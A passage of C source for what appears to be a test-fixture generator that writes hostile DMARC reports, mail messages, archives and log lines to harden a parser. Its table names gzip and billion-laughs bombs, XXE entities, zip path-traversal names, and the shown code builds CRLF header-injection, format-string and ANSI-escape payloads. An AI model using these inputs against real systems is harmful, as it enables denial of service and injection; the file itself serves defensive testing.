                                hb_printf(&org, "[%02x]", c);
                        else
                                hb_add(&org, &c, 1);
                }
                hb_str(&org, " | ");
        }
        hb_str(&rid, "id&#13;&#10;PRIORITY=0&#10;DMARCTRACE_EVENT=fake %n%s \xe2\x80\xae\xc2\x85");
        xml_report(&x, &(struct xml_opts) { .org = (const char *) org.p, .report_id = (const char *) rid.p,
                                            .email = "a&#13;&#10;PRIORITY=0@x", .extra = "&#x85;&#x202E;&#x2028;" });
        hb_add(b, x.p, x.len);
        hb_free(&org);
        hb_free(&rid);
        hb_free(&x);
}

GEN(g_inject_failure) {
        struct hbuf o = { 0 };
        size_t i;

        hb_str(&o, arf_original_head);
        /* payload 0 holds a raw CR LF, which would simply end the header line: it is sent
         * RFC 2047-encoded at the end instead, where a decoder could be fooled */
        hb_str(&o, "From: ");
        for (i = 1; i < ELEMENTSOF(inject_payloads); i++)
                hb_str(&o, inject_payloads[i]);
        hb_str(&o, " <shop@example.com>\nSubject: ");
        for (i = 1; i < ELEMENTSOF(inject_payloads); i++)
                hb_str(&o, inject_payloads[i]);
        hb_str(&o, " =?utf-8?B?DQpQUklPUklUWT0wDQo=?=\n");   /* encoded "\r\nPRIORITY=0\r\n" */
        hb_str(&o, "X-PHP-Originating-Script: 33:\x1b[2Jevil.php\xe2\x80\xae\n");
        arf(b, "", "Feedback-Type: auth-failure\nVersion: 1\nSource-IP: 192.0.2.1\x1b[2J\n"
                   "Reported-Domain: example.com\xe2\x80\xae\xc2\x9b\n"
                   "Original-Mail-From: <%n%s@example.com>\n", NULL, (const char *) o.p);
        hb_free(&o);
}

GEN(g_inject_zip_name) { zip_case(b, 18); }

/* 41 */
GEN(g_spoofed_google) {
        xml_report(b, &(struct xml_opts) { .org = "google.com", .email = "noreply-dmarc-support@google.com" });
}

/* 42: hostile mail-log lines, for the correlate/ readers */
GEN(g_log_msgid_100k) {
        hb_str(b, "Nov 15 00:00:00 mail postfix/cleanup[123]: 4Bq2Wd1xyz: message-id=<");
        hb_fill(b, 'm', 100000);
        hb_str(b, "@example.com>\n");
}

GEN(g_log_ansi_nul) {
        static const char l[] = "Nov 15 00:00:00 mail postfix/qmgr[124]: 4Bq2Wd1xyz: from=<a\x1b[2J\0b@example.com>, size=1, nrcpt=1 (queue active)\n";

        hb_add(b, l, sizeof l - 1);
}

GEN(g_log_no_newline) {
        hb_str(b, "Nov 15 00:00:00 mail postfix/pickup[125]: 4Bq2Wd1xyz: uid=33 from=<www-data>");
}

GEN(g_log_invalid_utf8) {
        hb_str(b, "Nov 15 00:00:00 mail postfix/cleanup[123]: 4Bq2Wd1xyz: message-id=<\xff\xfe\xc0\xaf@x>\n");
}

/* 42: written as a 1 GiB sparse file by main() (NUL bytes, no newline); in memory 32 MiB */
GEN(g_log_1g_line) {
        hb_str(b, "Nov 15 00:00:00 mail postfix/cleanup[123]: ");
        hb_fill(b, 'x', 32u << 20);
}

struct hostile {
        const char *name;
        unsigned item;
        hostile_gen gen;
        uint64_t sparse;                /* main() writes the head, then extends the file to this */
        const char *what;
};

static const struct hostile hostile_table[] = {
        { "empty.eml", 1, g_empty, 0, "zero-byte message" },
        { "huge-sparse.eml", 2, g_huge_head, 10ull << 30, "10 GiB sparse message file" },
        { "headers-never-end.eml", 6, g_headers_never_end, 0, "one field folded over 10 MB, no blank line" },
        { "subject-5mb.eml", 7, g_subject_5mb, 0, "one 5 MB Subject line" },
        { "failure-subject-90k.eml", 7, g_failure_subject_90k, 0, "failure report, original Subject of 90 KB" },
        { "fields-100k.eml", 8, g_fields_100k, 0, "100,000 header fields" },
        { "fields-30k-small.eml", 8, g_fields_30k_small, 0, "30,000 header fields in under 100 KiB" },
        { "failure-fields-100k.eml", 8, g_failure_fields_100k, 0, "failure report, original with 100,000 fields" },
        { "nesting-10000.eml", 9, g_nesting_10000, 0, "multipart/message nesting 10,000 deep" },
        { "mp-no-boundary.eml", 10, g_mp_no_boundary, 0, "multipart without boundary=" },
        { "mp-empty-boundary.eml", 10, g_mp_empty_boundary, 0, "multipart with an empty boundary" },
        { "mp-long-boundary.eml", 10, g_mp_long_boundary, 0, "a 10 KB boundary" },
        { "mp-prefix-boundary.eml", 10, g_mp_prefix_boundary, 0, "a boundary prefixing another" },
        { "mp-boundary-in-base64.eml", 10, g_mp_boundary_in_base64, 0, "the boundary inside base64" },
        { "mp-unterminated.eml", 10, g_mp_unterminated, 0, "no final boundary" },
        { "conflicting-content-type.eml", 11, g_conflicting_ct, 0, "text/plain and multipart/report" },
        { "parts-10000.eml", 12, g_parts_10000, 0, "10,000 parts" },
        { "b64-junk.eml", 13, g_b64_junk, 0, "base64 with junk characters" },
        { "b64-bad-padding.eml", 13, g_b64_padding, 0, "base64 with bad padding" },
        { "b64-leading-equals.eml", 13, g_b64_leading_eq, 0, "base64 with a leading =" },
        { "qp-softbreak-flood.eml", 13, g_qp_flood, 0, "500,000 quoted-printable soft breaks" },
        { "uuencode-giant-length.eml", 13, g_uu_giant, 0, "uuencode with giant length bytes" },
        { "gmime165-params.eml", 14, g_gmime165, 0, "non-ASCII parameter names on multipart/mixed" },
        { "from-colons.eml", 15, g_from_colons, 0, "From: and 99,999 colons" },
        { "from-5000.eml", 15, g_from_5000, 0, "From: with 5,000 addresses" },
        { "from-nested-groups.eml", 15, g_from_nested_groups, 0, "From: with 2,000 nested groups" },
        { "failure-multi-from.eml", 15, g_failure_multi_from, 0, "failure report, two From fields" },
        { "failure-no-from.eml", 15, g_failure_no_from, 0, "failure report, no From" },
        { "encoded-words.eml", 16, g_encoded_words, 0, "encoded-word abuse in the original Subject" },
        { "nul-cr.eml", 17, g_nul_cr, 0, "NUL, bare CR, mixed CRLF/LF" },
        { "gzip-bomb.xml.gz", 18, g_gzip_bomb, 0, "10 MB of gzip to 10 GiB" },
        { "gzip-bomb.eml", 18, g_gzip_bomb_eml, 0, "the gzip bomb as an attachment" },
        { "gzip-size.xml.gz", 18, g_gzip_size, 0, "300 MiB of XML at ~100:1" },
        { "gz-members-8.xml.gz", 19, g_gz_members_8, 0, "8 gzip members" },
        { "gz-members-9.xml.gz", 19, g_gz_members_9, 0, "9 gzip members" },
        { "gz-trailing-garbage.xml.gz", 19, g_gz_trailing, 0, "garbage after the member" },
        { "gz-truncated.xml.gz", 19, g_gz_truncated, 0, "truncated gzip" },
        { "gz-bad-crc.xml.gz", 19, g_gz_bad_crc, 0, "bad CRC" },
        { "gz-lying-isize.xml.gz", 19, g_gz_lying_isize, 0, "lying ISIZE" },
        { "gz-fextra-65535.xml.gz", 19, g_gz_fextra, 0, "FEXTRA of 65,535 bytes" },
        { "gz-fname-unterminated.gz", 19, g_gz_fname, 0, "FNAME without terminator" },
        { "zip-0-entries.zip", 20, g_zip_0, 0, "zip with no entries" },
        { "zip-10000-entries.zip", 20, g_zip_10000, 0, "zip with 10,000 entries" },
        { "zip-two-xml.zip", 20, g_zip_two_xml, 0, "two XML entries" },
        { "zip-encrypted.zip", 20, g_zip_encrypted, 0, "an encrypted entry" },
        { "zip-bzip2.zip", 20, g_zip_bzip2, 0, "method 12 (bzip2)" },
        { "zip-lzma.zip", 20, g_zip_lzma, 0, "method 14 (LZMA)" },
        { "zip-deflate64.zip", 20, g_zip_deflate64, 0, "method 9 (deflate64)" },
        { "zip-zip64-extra.zip", 20, g_zip_zip64, 0, "ZIP64 extra fields" },
        { "zip-descriptor-zero.zip", 20, g_zip_descriptor, 0, "data descriptor, zero sizes" },
        { "zip-two-eocd.zip", 20, g_zip_two_eocd, 0, "two EOCD records" },
        { "zip-overlap.zip", 21, g_zip_overlap, 0, "overlapping entries" },
        { "zip-lh-cd-name.zip", 22, g_zip_lh_cd_name, 0, "local and central names differ" },
        { "zip-lh-cd-method.zip", 22, g_zip_lh_cd_method, 0, "local and central methods differ" },
        { "zip-lh-cd-size.zip", 22, g_zip_lh_cd_size, 0, "local and central sizes differ" },
        { "zip-name-traversal.zip", 23, g_zip_name_traversal, 0, "entry name ../../" },
        { "zip-name-absolute.zip", 23, g_zip_name_absolute, 0, "absolute entry name" },
        { "zip-name-nul.zip", 23, g_zip_name_nul, 0, "entry name with NUL" },
        { "zip-name-64k.zip", 23, g_zip_name_64k, 0, "64 KiB entry name" },
        { "zip-name-ansi.zip", 23, g_zip_name_ansi, 0, "entry name with ANSI escapes" },
        { "nested-zip-gz-zip.zip", 24, g_nested_zip_gz_zip, 0, "zip in gzip in zip" },
        { "gz-gz.xml.gz.gz", 24, g_gz_gz, 0, "gzip of gzip (one layer inside another)" },
        { "gz-gz-gz.xml.gz.gz.gz", 24, g_gz_gz_gz, 0, "three gzip layers" },
        { "ct-zip-gzip-bytes.eml", 25, g_ct_zip_gzip, 0, "application/zip holding gzip" },
        { "ct-textxml-gzip.eml", 25, g_ct_textxml_gzip, 0, "text/xml holding gzip" },
        { "ct-octet-stream.eml", 25, g_ct_octet, 0, "application/octet-stream zip" },
        { "ct-plain-xml.eml", 25, g_ct_plain_xml, 0, "an uncompressed .xml attachment" },
        { "ct-inline-text.eml", 25, g_ct_inline_text, 0, "XML inline in text/plain" },
        { "payload-unused.eml", 26, g_payload_unused, 0, "attachment reading 'unused'" },
        { "payload-random.eml", 26, g_payload_random, 0, "attachment of random bytes" },
        { "bare-unused", 26, g_bare_unused, 0, "a file reading 'unused'" },
        { "billion-laughs.xml", 27, g_billion_laughs, 0, "nested internal entities" },
        { "billion-laughs.xml.gz", 27, g_billion_laughs_gz, 0, "the same, gzip'd" },
        { "xxe-file.xml", 28, g_xxe_file, 0, "external entity to the marker file" },
        { "xxe-file-gz.eml", 28, g_xxe_file_gz_eml, 0, "the same, gzip'd in a message" },
        { "xxe-http.xml", 28, g_xxe_http, 0, "http:// entity" },
        { "xxe-parameter.xml", 28, g_xxe_parameter, 0, "parameter-entity out-of-band DTD" },
        { "xxe-external-dtd.xml", 28, g_xxe_external_dtd, 0, "external DTD" },
        { "xinclude.xml", 28, g_xinclude, 0, "xi:include of the marker file" },
        { "xml-deep-100000.xml", 29, g_xml_deep, 0, "100,000 nested elements" },
        { "xml-text-100mb.xml.gz", 30, g_xml_text_100mb, 0, "a 100 MB org_name" },
        { "xml-text-cut-by-comments.xml.gz", 30, g_xml_text_cut_by_comments, 0,
          "200 MB of text, a comment every MB" },
        { "org-name-100k.xml", 30, g_org_name_100k, 0, "a 100 KB org_name" },
        { "report-id-100k.xml", 30, g_report_id_100k, 0, "a 100 KB report_id" },
        { "giant-1m-records.xml.gz", 31, g_giant_1m, 0, "1,000,000 records (~800 MB)" },
        { "agg-50k-records.xml.gz", 31, g_agg_50k, 0, "50,000 records (~40 MB)" },
        { "enc-0x91.xml", 32, g_enc_0x91, 0, "a 0x91 byte in UTF-8" },
        { "enc-declared-differs.xml", 32, g_enc_declared_differs, 0, "declared latin-1, UTF-8 content" },
        { "enc-utf16-bom.xml", 32, g_enc_utf16, 0, "valid UTF-16LE with BOM" },
        { "enc-bogus.xml", 32, g_enc_bogus, 0, "encoding=\"bogus\"" },
        { "comment-hyphens.xml", 33, g_comment_hyphens, 0, "200,000 \"--\" in one comment" },
        { "enc-utf7.xml", 32, g_enc_utf7, 0, "UTF-7, 2,000 comments written as +ADw-" },
        { "enc-ebcdic-declared.xml", 32, g_enc_ebcdic_declared, 0, "encoding=\"IBM037\"" },
        { "enc-utf16-comments.xml", 32, g_enc_utf16_comments, 0, "UTF-16LE, 2,000 comments" },
        { "enc-cp1252-undefined.xml", 32, g_enc_cp1252_undefined, 0, "windows-1252 with undefined bytes" },
        { "enc-overlong.xml", 32, g_enc_overlong, 0, "overlong UTF-8" },
        { "markup-lt.xml", 33, g_markup_lt, 0, "unescaped < in org_name" },
        { "markup-amp.xml", 33, g_markup_amp, 0, "unescaped & in org_name" },
        { "markup-xs-schema.xml", 33, g_markup_schema, 0, "stray unclosed <xs:schema>" },
        { "markup-report-id-close.xml", 33, g_markup_report_id_close, 0, "…/report_id>" },
        { "markup-two-roots.xml", 33, g_markup_two_roots, 0, "two root elements" },
        { "markup-after-root.xml", 33, g_markup_after_root, 0, "data after the root" },
        { "sem-counts.xml", 34, g_sem_counts, 0, "counts -1, 2^66, 1e3, empty" },
        { "sem-overflow.xml", 34, g_sem_overflow, 0, "counts that overflow the total" },
        { "sem-ips.xml", 34, g_sem_ips, 0, "bad source_ip values" },
        { "sem-begin-after-end.xml", 34, g_sem_begin_after_end, 0, "begin > end" },
        { "sem-span-week.xml", 34, g_sem_span_week, 0, "a span over 24 h" },
        { "sem-millis.xml", 34, g_sem_millis, 0, "timestamps in milliseconds" },
        { "sem-year-3000.xml", 34, g_sem_year_3000, 0, "the year 3000" },
        { "sem-domains.xml", 34, g_sem_domains, 0, "odd domains and enum values" },
        { "id-none.xml", 35, g_id_none, 0, "no report_id" },
        { "id-two.xml", 35, g_id_two, 0, "two report_id" },
        { "id-two-metadata.xml", 35, g_id_two_metadata, 0, "two report_metadata" },
        { "id-no-policy.xml", 35, g_id_no_policy, 0, "no policy_published" },
        { "replay-range.xml", 36, g_replay_range, 0, "same id, another range" },
        { "replay-org.xml", 36, g_replay_org, 0, "same id, another org" },
        { "dmarcbis.xml", 37, g_dmarcbis, 0, "RFC 9990 namespace and extensions" },
        { "arf-no-feedback.eml", 38, g_arf_no_feedback, 0, "multipart/report without feedback part" },
        { "arf-abuse.eml", 38, g_arf_abuse, 0, "Feedback-Type: abuse" },
        { "arf-repeated-ip.eml", 38, g_arf_repeated_ip, 0, "repeated Source-IP" },
        { "arf-10000-ar.eml", 38, g_arf_10000_ar, 0, "10,000 Authentication-Results" },
        { "arf-injected-ar.eml", 38, g_arf_injected_ar, 0, "forged Authentication-Results" },
        { "arf-redacted.eml", 38, g_arf_redacted, 0, "redacted original headers" },
        { "arf-vendor.eml", 38, g_arf_vendor, 0, "non-ARF vendor notice" },
        { "inject-aggregate.xml", 40, g_inject_aggregate, 0, "payloads in org_name, report_id, ..." },
        { "inject-failure.eml", 40, g_inject_failure, 0, "payloads in Subject, From, feedback" },
        { "inject-zip-name.zip", 40, g_inject_zip_name, 0, "payloads in the zip entry name" },
        { "spoofed-google.xml", 41, g_spoofed_google, 0, "org_name google.com from anywhere" },
        { "log-msgid-100k.log", 42, g_log_msgid_100k, 0, "a message-id of 100 KB" },
        { "log-ansi-nul.log", 42, g_log_ansi_nul, 0, "ANSI and NUL in from=<>" },
        { "log-no-newline.log", 42, g_log_no_newline, 0, "no newline at EOF" },
        { "log-invalid-utf8.log", 42, g_log_invalid_utf8, 0, "invalid UTF-8" },
        { "log-1g-line.log", 42, g_log_1g_line, 1ull << 30, "a 1 GiB single line" },
};

/* hostile_find - the table entry called name, or NULL */
static const struct hostile *hostile_find(const char *name) {
        size_t i;

        for (i = 0; i < ELEMENTSOF(hostile_table); i++)
                if (strcmp(hostile_table[i].name, name) == 0)
                        return &hostile_table[i];
        return NULL;
}

/* hostile_build - the fixture called name, in memory (*out owned by the caller, hb_free);
 * -ENOENT for an unknown name */
static int hostile_build(const char *name, const struct hostile_ctx *ctx, struct hbuf *out) {
        const struct hostile *h = hostile_find(name);

        if (!h)
                return -ENOENT;
        memset(out, 0, sizeof *out);
        hrng = 0x9e3779b97f4a7c15ull;                   /* same bytes every time */
        hb_reserve(out, 1);
        h->gen(out, ctx);
        return 0;
}

#ifndef GEN_HOSTILE_NO_MAIN
/* write_fixture - DIR/name from h, sparse-extended when h->sparse */
static int write_fixture(const char *dir, const struct hostile *h, const struct hostile_ctx *ctx) {
        struct hbuf b;
        char path[4096];
        size_t done = 0;
        int fd, n, r = 0;

        n = snprintf(path, sizeof path, "%s/%s", dir, h->name);
        if (n < 0 || (size_t) n >= sizeof path)
                return -ENAMETOOLONG;
        if (hostile_build(h->name, ctx, &b) < 0)
                return -ENOENT;
        if (h->sparse && strcmp(h->name, "log-1g-line.log") == 0)
                b.len = 44;                             /* the line's head; the rest is a hole */
        fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (fd < 0) {
                hb_free(&b);
                return -errno;
        }
        while (done < b.len) {
                ssize_t w = write(fd, b.p + done, b.len - done);

                if (w < 0) {
                        r = -errno;
                        break;
                }
                done += (size_t) w;
        }
        if (r == 0 && h->sparse && ftruncate(fd, (off_t) h->sparse) < 0)
                r = -errno;
        if (close(fd) < 0 && r == 0)
                r = -errno;
        hb_free(&b);
        return r;
}

int main(int argc, char **argv) {
        struct hostile_ctx ctx = { .marker_path = "/tmp/dmarctrace-xxe-marker" };
        const char *dir;
        size_t i;
        int a = 1, r;

        if (argc >= 2 && strcmp(argv[1], "-l") == 0) {
                for (i = 0; i < ELEMENTSOF(hostile_table); i++)
                        printf("%-32s %2u  %s\n", hostile_table[i].name, hostile_table[i].item,
                               hostile_table[i].what);
                return 0;
        }
        if (argc >= 3 && strcmp(argv[1], "-m") == 0) {
                ctx.marker_path = argv[2];
                a = 3;
        }
        if (a >= argc) {
                fprintf(stderr, "usage: gen-hostile [-m MARKER-FILE] DIR [NAME...] | gen-hostile -l\n");
                return 2;
        }
        dir = argv[a++];
        if (mkdir(dir, 0755) < 0 && errno != EEXIST) {
                fprintf(stderr, "gen-hostile: cannot create '%s': %s\n", dir, strerror(errno));
                return 1;
        }
        for (i = 0; i < ELEMENTSOF(hostile_table); i++) {
                const struct hostile *h = &hostile_table[i];
                int k, wanted = a >= argc;

                for (k = a; k < argc; k++)
                        if (strcmp(argv[k], h->name) == 0)
                                wanted = 1;
                if (!wanted)
                        continue;
                r = write_fixture(dir, h, &ctx);
                if (r < 0) {
                        fprintf(stderr, "gen-hostile: %s: %s\n", h->name, strerror(-r));
                        return 1;
                }
        }
        for (; a < argc; a++)
                if (!hostile_find(argv[a])) {
                        fprintf(stderr, "gen-hostile: no fixture called '%s' (see -l)\n", argv[a]);
                        return 1;
                }
        return 0;
}
#endif
